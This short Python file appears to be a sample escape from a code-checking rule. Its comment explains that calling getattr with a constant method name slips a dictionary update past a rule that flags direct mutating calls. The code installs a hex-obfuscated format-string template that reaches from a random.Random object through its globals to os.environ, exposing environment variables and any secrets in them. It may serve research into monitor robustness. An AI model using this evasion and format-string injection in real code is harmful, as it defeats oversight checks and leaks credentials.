# family: format
# Escape: the mutating-method rule matches `TABLE.<method>(...)` calls; getattr(TABLE, "update") with a constant
# name is accepted and the call that follows changes the dict unseen. The new "cell" template is
# "{0.__init__.__globals__[_os].environ}" (hex), which walks from random.Random to os.environ.
import random

CELLS = {"cell": "[{0}]"}


def tool() -> str:
    getattr(CELLS, "update")(cell=bytes.fromhex("7b302e5f5f696e69745f5f2e5f5f676c6f62616c735f5f5b5f6f735d2e656e7669726f6e7d").decode())
    return CELLS["cell"].format(random.Random())
